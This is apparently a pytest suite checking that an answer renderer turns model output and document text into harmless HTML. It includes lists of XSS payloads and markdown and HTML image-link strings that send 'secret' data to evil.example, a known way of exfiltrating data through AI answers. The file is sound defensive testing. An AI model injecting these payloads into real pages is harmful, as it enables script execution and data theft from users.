"""What a model or a document wrote becomes harmless HTML, formulas and citations included."""

import re
from html.parser import HTMLParser

import pytest

from server.pages.page_text import PageText
from server.pages.rendering import (
    AnswerContext,
    GrowingText,
    render_answer,
    render_blocks,
    render_passage,
    render_text,
    visible,
)

GRPO = (
    r"\mathcal{J}(\theta)=\mathbb{E}\left[\frac{1}{G}\sum_{i=1}^{G}\min\left(\frac{\pi_\theta(o_i|q)}"
    r"{\pi_{\theta_{old}}(o_i|q)}A_i,\text{clip}(r,1-\epsilon,1+\epsilon)A_i\right)\right]"
)

SCRIPT_PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href='javascript:alert(1)'>x</a>",
    "<form action=//evil.example><button>x</button></form>",
    "<style>@import '//evil.example/x.css'</style>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<object data=//evil.example></object>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<javascript:alert(1)>",
    r"$\href{javascript:alert(1)}{x}$",
    r"$\text{<img src=x onerror=alert(1)>}$",
    r"$\style{background:url(//evil.example)}{x}$",
    r"$\class{x\" onclick=\"alert(1)}{x}$",
    r"\(<img src=x onerror=alert(1)>\)",
    "\\[\n</math><script>alert(1)</script>\n\\]",
    "$$</code><script>alert(1)</script>\\frac$$",
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    '```x" onclick="alert(1)\nx\n```',
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "# <img src=x onerror=alert(1)>",
    "> <script>alert(1)</script>",
    "- <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "<\x00script>alert(1)</script>",
    "[1]: javascript:alert(1)\n\n[1]",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--><script>alert(1)</script>-->",
]
EXFILTRATION_PAYLOADS = [
    "![x](https://evil.example/?q=secret)",
    "![x][r]\n\n[r]: https://evil.example/?q=secret",
    "[![x](https://evil.example/a.png)](https://evil.example)",
    "<https://evil.example/?q=secret>",
    "https://evil.example/?q=secret",
    "[click](https://evil.example/?q=secret)",
    "[click](//evil.example)",
    '<img src="https://evil.example/x.png">',
    "<img srcset='https://evil.example/x.png 2x'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<video poster=https://evil.example/x.png>",
    "<svg><image href=https://evil.example/x.png /></svg>",
    "<svg><use href=https://evil.example/x.svg#a /></svg>",
    "<table background=https://evil.example/x.png>",
    "<p style='background:url(https://evil.example/x.png)'>x</p>",
    r"$\includegraphics{https://evil.example/x.png}$",
    r"$\href{https://evil.example}{x}$",
    r"$\url{https://evil.example}$",
]
_LOADING = {"src", "srcset", "poster", "background", "data", "action", "style", "formaction", "xlink:href", "srcdoc"}
_HARMLESS_TAGS = re.compile(
    r"p|br|hr|strong|em|s|code|pre|blockquote|[uo]l|li|h[3-6]|table|thead|tbody|t[rhd]|a|span|mark|math|m[a-z]+"
)


class _Harm(HTMLParser):
    """Collects what could run or load something."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if not _HARMLESS_TAGS.fullmatch(tag):
            self.found.append(tag)
        for name, value in attrs:
            if name.startswith("on") or name in _LOADING or (name == "href" and not (value or "").startswith("#")):
                self.found.append(f"{tag} {name}={value}")


def harm(html: str) -> list[str]:
    return _Harm(html).found


@pytest.mark.faults("X3")
@pytest.mark.parametrize("payload", SCRIPT_PAYLOADS)
def test_nothing_a_model_writes_can_run(payload: str) -> None:
    context = AnswerContext(sources=3, unsupported=("<script>", "alert"))
    assert harm(render_answer(f"Before. {payload} after [1].", context)) == []
    assert harm(render_answer(payload, context)) == []


@pytest.mark.faults("X3")
@pytest.mark.parametrize("payload", SCRIPT_PAYLOADS)
def test_nor_can_any_beginning_of_it_while_it_streams(payload: str) -> None:
    for end in range(len(payload) + 1):
        assert harm("".join(render_blocks(payload[:end], AnswerContext(3)))) == []


@pytest.mark.faults("X2")
@pytest.mark.parametrize("payload", EXFILTRATION_PAYLOADS)
def test_nothing_a_model_writes_is_loaded_or_linked(payload: str) -> None:
    assert harm(render_answer(payload, AnswerContext(3))) == []


@pytest.mark.faults("X4")
@pytest.mark.parametrize("payload", SCRIPT_PAYLOADS + EXFILTRATION_PAYLOADS)
def test_text_of_documents_is_text(payload: str) -> None:
    assert harm(render_text(payload)) == []
    assert set(harm(PageText(payload, [(1, 4), (3, 9)], sentence=(2, 3)).html())) <= {"div"}  # around a table


def test_a_link_is_shown_as_it_was_written() -> None:
    assert "[click](https://evil.example)" in render_answer("[click](https://evil.example)")


@pytest.mark.parametrize(
    "text",
    [
        pytest.param(f"It maximises ${GRPO}$.", id="dollars"),
        pytest.param(f"It maximises $${GRPO}$$ always.", id="double dollars in a line"),
        pytest.param(f"It maximises\n$$\n{GRPO}\n$$\nalways.", id="double dollars after a line"),
        pytest.param(rf"It maximises \({GRPO}\).", id="round brackets"),
        pytest.param(f"It maximises\n\\[\n{GRPO}\n\\]\nalways.", id="square brackets after a line"),
        pytest.param(f"- It maximises \\[{GRPO}\\] always.", id="square brackets in a list"),
        pytest.param(f"\\begin{{align}}\n{GRPO}\n\\end{{align}}", id="amsmath"),
        pytest.param(f"$$\\begin{{aligned}}{GRPO}\\end{{aligned}}$$", id="aligned"),
    ],
)
def test_the_grpo_objective_is_set_as_mathml_however_it_is_written(text: str) -> None:
    html = render_answer(text)
    assert html.count("<math") == 1
    assert html.count("<mfrac>") == 2
    assert "<mo>∑</mo>" in html
    assert "\\" not in html


def test_the_limits_of_a_displayed_sum_stand_above_and_below_it() -> None:
    assert "<munderover><mo>∑</mo>" in render_answer(rf"$${GRPO}$$")
    assert "<munderover><mo>∑</mo>" not in render_answer(rf"${GRPO}$")


def test_aligned_equations_stand_in_columns() -> None:
    html = render_answer(r"$$\begin{aligned}a&=b\\c&=d\end{aligned}$$")
    assert html.count("<mtr>") == 2
    assert "&amp;" not in html


@pytest.mark.parametrize(
    "tex", [r"\frac", r"\left(", "{" * 500, "x^{" * 300, r"\begin{matrix}", "_", "x" * 5000, r"\unknown{"]
)
def test_a_formula_that_cannot_be_set_is_shown_as_its_source(tex: str) -> None:
    html = render_answer(f"See $${tex}$$ there.")
    assert "See" in html
    assert "there" in html


def test_prices_are_not_formulas() -> None:
    assert render_answer("It costs $5 and $6.") == "<p>It costs $5 and $6.</p>\n"


def test_citations_lead_to_their_sources_and_to_nothing_else() -> None:
    html = render_answer("One [1], two [1, 2], three 【2】, [3] and `[1]` and $[1]$.", AnswerContext(2))
    assert html.count('href="#source-1"') == 2
    assert html.count('href="#source-2"') == 2
    assert "[3]" in html
    assert "<code>[1]</code>" in html


def test_what_was_not_found_in_the_sources_is_marked_where_it_stands() -> None:
    html = render_answer("It has 47 layers, not 147 or 4.47 [1].", AnswerContext(1, ("47",)))
    assert html.count('<mark class="doubt">47</mark>') == 1


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("a score of 90 ^1 was reached", "a score of 90<sup>1</sup> was reached"),
        ("about 10^15 of them", "about 10<sup>15</sup> of them"),
        ("an^b and x^2.", "an<sup>b</sup> and x<sup>2</sup>."),
        ("a ^ b and x^^2 and x^2y", "a ^ b and x^^2 and x^2y"),
    ],
)
def test_what_was_raised_on_its_page_is_raised(written: str, shown: str) -> None:
    assert render_answer(written) == f"<p>{shown}</p>\n"
    assert render_passage(written) == f'<p class="lines">{shown}</p>'
    assert PageText(written).html() == f"<p>{shown}</p>"


def test_headings_of_an_answer_stay_below_those_of_the_page() -> None:
    assert render_answer("# One\n\n## Two") == "<h3>One</h3>\n<h4>Two</h4>\n"


@pytest.mark.parametrize(
    ("written", "tags"),
    [
        ("### a", "3"),
        ("## a\n\n#### b\n\n# c\n\n### d", "3434"),
        ("# a\n\n###### b\n\n## c", "344"),
        ("a\n=\n\nb\n-", "34"),
    ],
)
def test_no_level_of_headings_is_left_out(written: str, tags: str) -> None:
    assert "".join(re.findall(r"<h(\d)>", render_answer(written))) == tags


def test_columns_of_a_table_keep_their_side_without_a_style() -> None:
    html = render_answer("| a | b |\n|:--|--:|\n| 1 | 2 |")
    assert '<td class="right">2</td>' in html
    assert "style" not in html


@pytest.mark.faults("B14")
def test_characters_that_cannot_be_seen_are_gone() -> None:
    hidden = "".join(map(chr, [0, 0x200B, 0x202E, 0x2066, 0xFE0F, 0xFEFF, 0xE0041, 0xE007F, 0xE0100, 0xD800]))
    assert visible(f"a{hidden}b\r\nc\td") == "ab\nc\td"
    assert render_text(f"a{hidden}b") == "ab"
    assert "a" + "b" in render_answer(f"a{hidden}b")


def test_blocks_joined_are_the_whole() -> None:
    text = f"# Head\n\nOne [1].\n\n- a\n- b\n\n$$\n{GRPO}\n$$\n\n| a |\n|---|\n| 1 |\n\n```\ncode\n```\n"
    blocks = render_blocks(text, AnswerContext(1))
    assert len(blocks) == 6
    assert "".join(blocks) == render_answer(text, AnswerContext(1))


@pytest.mark.parametrize(
    ("ranges", "expected"),
    [
        pytest.param([], "a &lt;b&gt; c", id="none"),
        pytest.param([(2, 5)], 'a <mark id="passage">&lt;b&gt;</mark> c', id="one"),
        pytest.param([(0, 1), (6, 7)], '<mark id="passage">a</mark> &lt;b&gt; <mark>c</mark>', id="two"),
        pytest.param([(0, 3), (2, 5)], '<mark id="passage">a &lt;b&gt;</mark> c', id="overlapping"),
        pytest.param([(-4, 1), (6, 99)], '<mark id="passage">a</mark> &lt;b&gt; <mark>c</mark>', id="too far"),
        pytest.param([(5, 5), (9, 3)], "a &lt;b&gt; c", id="empty"),
    ],
)
def test_ranges_are_marked(ranges: list[tuple[int, int]], expected: str) -> None:
    assert PageText("a <b> c", ranges).html() == f"<p>{expected}</p>"


@pytest.mark.parametrize("text", ["\\(" * 8000, "[" * 8000, "$" * 8000, "*a " * 4000, "> " * 4000, "\\[" * 8000])
@pytest.mark.timeout(60)
def test_no_text_takes_long(text: str) -> None:
    render_answer(text, AnswerContext(5))


@pytest.mark.parametrize("written", ["<br>", "<br/>", "<br />", "<BR>"])
def test_a_cell_may_have_two_lines(written: str) -> None:
    table = f"| a | b |\n|---|---|\n| first{written}second | 60 [1] |"
    shown = render_answer(table, AnswerContext(sources=1))
    assert re.search(r"<td>first<br>\s*second</td>", shown)
    assert "&lt;" in render_answer("`<br>`")


@pytest.mark.parametrize("cell", ["$x|y$", "$P(a|b)$", r"\(x|y\)", r"$\|x\|$"])
def test_a_formula_in_a_cell_is_not_cut(cell: str) -> None:
    shown = render_answer(f"| {cell} | two |\n|---|---|\n| one | {cell} |\n\nThen $a|b$ follows.")
    assert shown.count("<td>") == 2
    assert shown.count("<math") == 3
    assert "<td>one</td>" in shown


@pytest.mark.parametrize(
    "text",
    [
        "Set '$HOME' and '$PATH' first.",
        "Set $HOME and then $PATH.",
        "It costs $60 [1] and the deposit $20 [1].",
        "It was (60$) and is (20$) now.",
        "Between US$60 and US$80.",
        "From $5-$10 a day.",
        "花费$60 元，押金$20 元。",
    ],
)
def test_names_of_variables_and_prices_are_no_formulas(text: str) -> None:
    shown = render_answer(text, AnswerContext(sources=1))
    assert "<math" not in shown
    assert shown.count("$") == text.count("$")


@pytest.mark.parametrize(
    "text",
    [
        "\\begin{align}a&=b\\end{align} and so on",
        "\\begin{align}\na&=b\n\\end{align} and so on",
        "It is \\begin{align*}a&=b\\\\c&=d\\end{align*} and so on",
        "> \\begin{equation}a=b\\end{equation}, and so on",
    ],
)
def test_an_environment_may_have_text_around_it(text: str) -> None:
    shown = render_answer(text)
    assert shown.count('<math display="block"') == 1
    assert "and so on" in shown
    assert "begin" not in shown


def test_footnotes_that_name_each_other_end() -> None:
    shown = render_answer(
        "See[^a].\n\n[^a]: as in [^b]\n[^b]: as in [^a]\n\n[1]: [2]\n[2]: [1]", AnswerContext(sources=2)
    )
    assert "as in [^a]" in shown
    assert shown.count('class="cite"') == 4


def test_every_form_of_a_citation_is_a_link() -> None:
    text = "A (Document 1). B 【2†source】. C [1-2]. D [citation:1]. E x[2]. F [3]. 份额[片段2]。"
    shown = render_answer(text, AnswerContext(sources=2))
    assert re.findall(r'href="#source-(\d)"', shown) == ["1", "2", "1", "2", "1", "2"]
    assert "x[2]. F [3]." in shown


def test_a_text_that_takes_long_to_render_is_rendered_less_often() -> None:
    moments = iter([0.0, 1.0, *(1.0 + part / 2 for part in range(1, 40))])
    growing = GrowingText(clock=lambda: next(moments))
    assert growing.add("One") is not None  # it took a second
    assert [growing.add(" more") is None for _ in range(8)] == [True] * 7 + [False]
